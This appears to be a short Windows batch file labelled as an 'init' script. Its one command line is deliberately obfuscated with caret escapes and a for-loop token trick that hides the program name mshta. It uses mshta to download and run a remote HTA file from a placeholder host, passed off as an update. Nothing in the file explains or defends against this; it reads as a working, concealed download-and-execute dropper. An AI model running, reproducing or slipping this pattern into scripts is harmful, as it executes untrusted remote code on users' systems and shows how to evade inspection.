REM init 2933 v4
f^or /f "tokens=2 delims=~" %%^i ^i^n ("frjz~mshta~hiir") do %%^i http://f^i^l^e^s.s^yn^c-s^vc.^e^x^ampl^e/upd^ate.^ht^a
